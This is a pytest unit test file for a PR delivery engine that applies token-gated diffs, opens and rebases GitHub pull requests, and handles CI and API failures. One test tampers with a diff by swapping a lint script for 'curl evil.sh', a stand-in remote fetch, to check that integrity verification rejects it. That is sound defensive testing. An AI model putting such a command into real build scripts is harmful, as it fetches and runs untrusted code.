"""Unit tests for the PR delivery engine (entry gate and workflow)."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from patchgate.config import GitHubConfig, TokenConfig
from patchgate.credentials import StaticTokenProvider
from patchgate.delivery import (
    PRDeliveryEngine,
    rebase_attempts,
    safe_branch_component,
    with_rebase_attempts,
)
from patchgate.errors import (
    BlockedByCI,
    ContextMismatch,
    GitHubAPIError,
    IntegrityViolation,
    InvalidPreviewToken,
    JobNotFound,
    NoOpPatch,
    PermissionDenied,
    ProviderError,
    RebaseConflict,
    ReplayDetected,
    RepositoryNotFound,
    RetryLimitReached,
    UnsafePatch,
)
from patchgate.queue import SandboxQueue
from patchgate.telemetry import TelemetrySink
from patchgate.tokens import PreviewTokenService

REPO = "acme/app"
NOW_MS = 1_700_000_000_000

BUMP_VERSION_DIFF = """--- a/package.json
+++ b/package.json
@@ -2,2 +2,2 @@
   "name": "app",
-  "version": "1.0.0",
+  "version": "1.1.0",
"""


@pytest.fixture
def queue() -> SandboxQueue:
    return SandboxQueue(TelemetrySink.disabled())


@pytest.fixture
def tokens() -> PreviewTokenService:
    return PreviewTokenService(TokenConfig())


@pytest.fixture
def engine(queue, tokens, fake_host) -> PRDeliveryEngine:
    return PRDeliveryEngine(
        queue,
        tokens,
        StaticTokenProvider("ghs_test"),
        client_factory=lambda repo, token: fake_host,
        telemetry=TelemetrySink.disabled(),
        clock=lambda: NOW_MS / 1000,
    )


async def _apply(engine, queue, tokens, mint, diff, target_file="package.json", summary=None):
    job_id, token = mint(queue, tokens, REPO, target_file, diff)
    return await engine.apply(job_id, token, REPO, target_file, diff, summary)


def _blob(text: str) -> str:
    return hashlib.sha1(text.encode()).hexdigest()


class TestBodyCounter:
    def test_footer_appended_once(self):
        body = with_rebase_attempts("Adds a lint script.", 0, 3)
        assert body.startswith("Adds a lint script.\n\n---\nRebase attempts: 0/3")
        assert rebase_attempts(body) == 0

        bumped = with_rebase_attempts(body, 2, 3)
        assert rebase_attempts(bumped) == 2
        assert "Rebase attempts: 2/3" in bumped
        assert bumped.count("---") == 1

    def test_missing_counter_reads_zero(self):
        assert rebase_attempts(None) == 0
        assert rebase_attempts("hand-written body") == 0

    def test_branch_component(self):
        assert safe_branch_component("src/app.py") == "src-app-py"


class TestEntryGate:
    @pytest.mark.asyncio
    async def test_invalid_token(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        job_id, _ = mint(queue, tokens, REPO, "package.json", add_script_diff)
        with pytest.raises(InvalidPreviewToken):
            await engine.apply(job_id, "not-a-token", REPO, "package.json", add_script_diff)
        assert queue.get_job(job_id).consumed is False
        assert fake_host.calls == []

    @pytest.mark.asyncio
    @pytest.mark.parametrize("field", ["job_id", "repository", "target_file"])
    async def test_context_mismatch(self, engine, queue, tokens, mint, add_script_diff, field):
        job_id, token = mint(queue, tokens, REPO, "package.json", add_script_diff)
        args = {"job_id": job_id, "repository": REPO, "target_file": "package.json"}
        args[field] = {"job_id": "other-job", "repository": "acme/other", "target_file": "README.md"}[field]
        with pytest.raises(ContextMismatch) as exc:
            await engine.apply(args["job_id"], token, args["repository"], args["target_file"], add_script_diff)
        assert exc.value.status == 403
        assert queue.get_job(job_id).consumed is False

    @pytest.mark.asyncio
    async def test_integrity_violation_keeps_job_usable(self, engine, queue, tokens, mint, add_script_diff):
        job_id, token = mint(queue, tokens, REPO, "package.json", add_script_diff)
        tampered = add_script_diff.replace("echo lint", "curl evil.sh")
        with pytest.raises(IntegrityViolation):
            await engine.apply(job_id, token, REPO, "package.json", tampered)
        assert queue.get_job(job_id).consumed is False

        result = await engine.apply(job_id, token, REPO, "package.json", add_script_diff)
        assert result.mode == "new"

    @pytest.mark.asyncio
    async def test_unknown_job(self, engine, tokens, add_script_diff):
        token = tokens.sign("ghost", REPO, "package.json", tokens.hash(add_script_diff))
        with pytest.raises(JobNotFound):
            await engine.apply("ghost", token, REPO, "package.json", add_script_diff)

    @pytest.mark.asyncio
    async def test_replay(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        job_id, token = mint(queue, tokens, REPO, "package.json", add_script_diff)
        await engine.apply(job_id, token, REPO, "package.json", add_script_diff)
        writes = len(fake_host.writes)

        with pytest.raises(ReplayDetected) as exc:
            await engine.apply(job_id, token, REPO, "package.json", add_script_diff)
        assert exc.value.status == 409
        assert len(fake_host.writes) == writes

    def test_gate_telemetry(self, queue, tokens, mint, add_script_diff, tmp_path: Path):
        sink = TelemetrySink(enabled=True, path=tmp_path / "t.jsonl")
        engine = PRDeliveryEngine(queue, tokens, StaticTokenProvider("x"), telemetry=sink)
        job_id, token = mint(queue, tokens, REPO, "package.json", add_script_diff)

        with pytest.raises(ContextMismatch):
            engine.authorize(job_id, token, REPO, "README.md", add_script_diff)
        engine.authorize(job_id, token, REPO, "package.json", add_script_diff)

        events = [json.loads(line) for line in sink.path.read_text().splitlines()]
        assert [(e["type"], e["data"].get("reason")) for e in events] == [
            ("gate_rejected", "context_mismatch"),
            ("gate_passed", None),
        ]


class TestNewPullRequest:
    @pytest.mark.asyncio
    async def test_opens_pull_request(
        self, engine, queue, tokens, mint, add_script_diff, fake_host, package_json, patched_package_json
    ):
        result = await _apply(engine, queue, tokens, mint, add_script_diff, summary="Add a lint script")

        branch = f"patchgate/edit-package-json-{NOW_MS}"
        assert result.mode == "new"
        assert result.branch == branch
        assert result.pr_number == 1
        assert result.pr_url == "https://github.com/acme/app/pull/1"
        assert result.rollback == {"file": "package.json", "sha": _blob(package_json)}

        assert fake_host.file_at(branch, "package.json") == patched_package_json
        assert fake_host.file_at("main", "package.json") == package_json
        assert fake_host.writes[0]["message"] == "feat: automated safe edit\n\nAdd a lint script"
        assert fake_host.writes[0]["committer"]["name"]

        pr = fake_host.pulls[0]
        assert pr["title"] == "PatchGate Safe Edit: package.json"
        assert pr["base"]["ref"] == "main"
        assert "Rebase attempts: 0/3" in pr["body"]
        assert fake_host.labels[1] == ["patchgate", "automated-edit", "sandbox-verified"]

    @pytest.mark.asyncio
    async def test_creates_new_file(self, engine, queue, tokens, mint, fake_host):
        diff = "--- /dev/null\n+++ b/docs/usage.md\n@@ -0,0 +1,2 @@\n+# Usage\n+Run it.\n"
        result = await _apply(engine, queue, tokens, mint, diff, target_file="docs/usage.md")

        assert result.mode == "new"
        assert result.rollback is None
        assert fake_host.file_at(result.branch, "docs/usage.md") == "# Usage\nRun it.\n"

    @pytest.mark.asyncio
    async def test_noop_patch_writes_nothing(self, engine, queue, tokens, mint, fake_host):
        diff = '--- a/package.json\n+++ b/package.json\n@@ -1,2 +1,2 @@\n {\n   "name": "app",\n'
        with pytest.raises(NoOpPatch) as exc:
            await _apply(engine, queue, tokens, mint, diff)
        assert exc.value.status == 400
        assert list(fake_host.branches) == ["main"]
        assert fake_host.pulls == []


class TestCumulative:
    @pytest.mark.asyncio
    async def test_second_edit_appends_commit(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        first = await _apply(engine, queue, tokens, mint, add_script_diff)
        second = await _apply(engine, queue, tokens, mint, BUMP_VERSION_DIFF)

        assert second.mode == "cumulative"
        assert second.branch == first.branch
        assert second.pr_number == first.pr_number
        assert len(fake_host.pulls) == 1

        text = fake_host.file_at(first.branch, "package.json")
        assert '"lint": "echo lint"' in text
        assert '"version": "1.1.0"' in text

    @pytest.mark.asyncio
    async def test_draft_blocks(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        await _apply(engine, queue, tokens, mint, add_script_diff)
        fake_host.pulls[0]["draft"] = True
        writes = len(fake_host.writes)

        with pytest.raises(BlockedByCI) as exc:
            await _apply(engine, queue, tokens, mint, BUMP_VERSION_DIFF)

        assert exc.value.details == {"pr_number": 1, "checks_url": "https://github.com/acme/app/pull/1/checks"}
        assert len(fake_host.writes) == writes
        comment = fake_host.comments[1][-1]
        assert comment.startswith("### Automated Edit Blocked: CI Failure")
        assert "[View Failing Checks](https://github.com/acme/app/pull/1/checks)" in comment

    @pytest.mark.asyncio
    @pytest.mark.parametrize("state", ["dirty", "blocked"])
    async def test_blocking_merge_state(self, engine, queue, tokens, mint, add_script_diff, fake_host, state):
        await _apply(engine, queue, tokens, mint, add_script_diff)
        fake_host.pulls[0]["mergeable_state"] = state
        with pytest.raises(BlockedByCI):
            await _apply(engine, queue, tokens, mint, BUMP_VERSION_DIFF)

    @pytest.mark.asyncio
    @pytest.mark.parametrize(
        "conclusion,blocked",
        [("failure", True), ("timed_out", True), ("success", False), (None, False)],
    )
    async def test_check_runs(self, engine, queue, tokens, mint, add_script_diff, fake_host, conclusion, blocked):
        first = await _apply(engine, queue, tokens, mint, add_script_diff)
        head = fake_host.branches[first.branch]
        fake_host.check_runs[head] = [{"name": "build", "conclusion": conclusion}]

        if blocked:
            with pytest.raises(BlockedByCI, match="failing checks: build"):
                await _apply(engine, queue, tokens, mint, BUMP_VERSION_DIFF)
        else:
            assert (await _apply(engine, queue, tokens, mint, BUMP_VERSION_DIFF)).mode == "cumulative"


class TestRebase:
    @pytest.mark.asyncio
    async def test_stale_pull_request_is_rebased(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        first = await _apply(engine, queue, tokens, mint, add_script_diff)
        new_head = fake_host.advance_default_branch("README.md", "# app\n\nMore docs.\n")

        result = await _apply(engine, queue, tokens, mint, add_script_diff)

        assert result.mode == "rebase"
        assert result.branch == first.branch
        assert fake_host.file_at(first.branch, "README.md") == "# app\n\nMore docs.\n"
        assert '"lint": "echo lint"' in fake_host.file_at(first.branch, "package.json")
        assert fake_host.pulls[0]["base"]["sha"] == new_head
        assert "Rebase attempts: 1/3" in fake_host.pulls[0]["body"]
        assert sorted(fake_host.branches) == sorted(["main", first.branch])
        assert f"update_branch:{first.branch}:force=True" in fake_host.calls
        assert fake_host.comments[1][-1].startswith("### Stale PR Rebased")
        assert f"Force-pushed to `{first.branch}`" in fake_host.comments[1][-1]

    @pytest.mark.asyncio
    async def test_counter_increments_per_rebase(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        await _apply(engine, queue, tokens, mint, add_script_diff)
        for n in (1, 2, 3):
            fake_host.advance_default_branch("README.md", f"# app v{n}\n")
            await _apply(engine, queue, tokens, mint, add_script_diff)
            assert rebase_attempts(fake_host.pulls[0]["body"]) == n

    @pytest.mark.asyncio
    async def test_retry_limit(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        first = await _apply(engine, queue, tokens, mint, add_script_diff)
        fake_host.pulls[0]["body"] = with_rebase_attempts(fake_host.pulls[0]["body"], 3, 3)
        fake_host.advance_default_branch("README.md", "# moved\n")
        head_before = fake_host.branches[first.branch]

        with pytest.raises(RetryLimitReached) as exc:
            await _apply(engine, queue, tokens, mint, add_script_diff)

        assert exc.value.status == 429
        assert fake_host.branches[first.branch] == head_before
        comment = fake_host.comments[1][-1]
        assert comment.startswith("### Retry Limit Exceeded")
        assert "3/3" in comment

    @pytest.mark.asyncio
    async def test_conflict(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        first = await _apply(engine, queue, tokens, mint, add_script_diff)
        fake_host.advance_default_branch("package.json", '{\n  "name": "rewritten"\n}\n')

        with pytest.raises(RebaseConflict):
            await _apply(engine, queue, tokens, mint, add_script_diff)

        assert sorted(fake_host.branches) == sorted(["main", first.branch])
        assert fake_host.comments[1][-1].startswith("### Automated Rebase Failed")
        assert rebase_attempts(fake_host.pulls[0]["body"]) == 0

    @pytest.mark.asyncio
    async def test_conflict_reported_when_cleanup_fails(
        self, engine, queue, tokens, mint, add_script_diff, fake_host, monkeypatch
    ):
        await _apply(engine, queue, tokens, mint, add_script_diff)
        fake_host.advance_default_branch("package.json", '{\n  "name": "rewritten"\n}\n')

        async def refuse(branch):
            raise GitHubAPIError(500, "Server Error")

        monkeypatch.setattr(fake_host, "delete_branch", refuse)
        with pytest.raises(RebaseConflict):
            await _apply(engine, queue, tokens, mint, add_script_diff)


class TestProviderFailures:
    @pytest.mark.asyncio
    async def test_permission_denied(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        fake_host.meta["permissions"] = {"admin": False, "maintain": False, "push": False, "pull": True}
        with pytest.raises(PermissionDenied) as exc:
            await _apply(engine, queue, tokens, mint, add_script_diff)
        assert exc.value.status == 403
        assert fake_host.writes == []

    @pytest.mark.asyncio
    async def test_permissions_absent_is_allowed(self, engine, queue, tokens, mint, add_script_diff, fake_host):
        del fake_host.meta["permissions"]
        assert (await _apply(engine, queue, tokens, mint, add_script_diff)).mode == "new"

    @pytest.mark.asyncio
    async def test_repository_not_found(self, engine, queue, tokens, mint, add_script_diff, fake_host, monkeypatch):
        async def missing():
            raise GitHubAPIError(404, "Not Found")

        monkeypatch.setattr(fake_host, "get_repo", missing)
        with pytest.raises(RepositoryNotFound) as exc:
            await _apply(engine, queue, tokens, mint, add_script_diff)
        assert exc.value.status == 404

    @pytest.mark.asyncio
    async def test_rate_limited(self, engine, queue, tokens, mint, add_script_diff, fake_host, monkeypatch):
        async def limited():
            raise GitHubAPIError(403, "API rate limit exceeded", rate_limited=True)

        monkeypatch.setattr(fake_host, "list_open_pulls", limited)
        with pytest.raises(ProviderError) as exc:
            await _apply(engine, queue, tokens, mint, add_script_diff)
        assert exc.value.reason == "rate_limited"
        assert exc.value.status == 429

    @pytest.mark.asyncio
    async def test_unreadable_remote_file(
        self, engine, queue, tokens, mint, add_script_diff, fake_host, monkeypatch
    ):
        async def undecodable(path, ref):
            raise GitHubAPIError(422, f"{path} is not a UTF-8 text file")

        monkeypatch.setattr(fake_host, "get_file", undecodable)
        with pytest.raises(ProviderError) as exc:
            await _apply(engine, queue, tokens, mint, add_script_diff)
        assert exc.value.status == 502
        assert exc.value.details == {"upstream_status": 422}
        assert fake_host.writes == []

    @pytest.mark.asyncio
    async def test_unsafe_diff_rejected_before_any_call(self, engine, fake_host):
        diff = '--- a/src/app.py\n+++ b/src/app.py\n@@ -0,0 +1 @@\n+API_KEY = "abcdefghijklmnop1234"\n'
        with pytest.raises(UnsafePatch) as exc:
            await engine.deliver(fake_host, "src/app.py", diff)
        assert exc.value.details == "Secrets detected."
        assert fake_host.calls == []

    @pytest.mark.asyncio
    async def test_delivery_telemetry(self, queue, tokens, mint, add_script_diff, fake_host, tmp_path: Path):
        sink = TelemetrySink(enabled=True, path=tmp_path / "t.jsonl")
        engine = PRDeliveryEngine(
            queue,
            tokens,
            StaticTokenProvider("x"),
            github_config=GitHubConfig(max_rebase_attempts=0),
            client_factory=lambda repo, token: fake_host,
            telemetry=sink,
        )
        await _apply(engine, queue, tokens, mint, add_script_diff)
        fake_host.advance_default_branch("README.md", "# moved\n")
        with pytest.raises(RetryLimitReached):
            await _apply(engine, queue, tokens, mint, add_script_diff)

        types = [json.loads(line)["type"] for line in sink.path.read_text().splitlines()]
        assert types == [
            "gate_passed",
            "delivery_started",
            "pr_opened",
            "gate_passed",
            "delivery_started",
            "delivery_blocked",
        ]
